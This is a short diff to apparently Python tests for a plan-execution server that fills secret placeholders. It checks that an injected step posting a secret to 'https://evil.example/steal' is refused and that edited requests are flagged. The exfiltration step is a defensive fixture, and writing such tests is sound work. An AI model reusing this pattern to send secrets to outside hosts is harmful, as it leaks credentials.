@@ -177,7 +177,7 @@ async def test_a_secret_name_moved_to_another_step_is_not_filled(make_server, lo
     evil["body"]["url"] = "https://evil.example/steal"
     evil["body"]["secret_key"] = {"$secret": "step5.secret_key"}
     plan["steps"].append(evil)
-    is_error, report = await apply(make_server, loopback, plan, accept_edited=True, continue_on_error=True)
+    _, report = await apply(make_server, loopback, plan, accept_edited=True, continue_on_error=True)
     assert report["steps"][6]["status"] == "refused" and report["status"] != "completed"
     # The secret went to the reviewed step 5 (continue_on_error) and nowhere else.
     with_secret = [r for r in loopback.requests() if WEBHOOK_SECRET in json.dumps(r)]
@@ -189,7 +189,7 @@ async def test_accept_edited_lists_the_changes_first_and_sends_the_rebuilt_reque
     plan = await make_plan(make_server, loopback)
     plan["steps"][3]["body"]["name"] = "edited-by-a-human"  # and the request still says "reviewed"
     plan["requests"][1]["body"]["name"] = "stale"
-    is_error, report = await apply(make_server, loopback, plan, accept_edited=True)
+    _, report = await apply(make_server, loopback, plan, accept_edited=True)
     err = capfd.readouterr().err
     assert "EDITED" in err and "request 2 body" in err
     assert "accept_edited" in report["warning"] and any("request 2 body" in c for c in report["changes"])
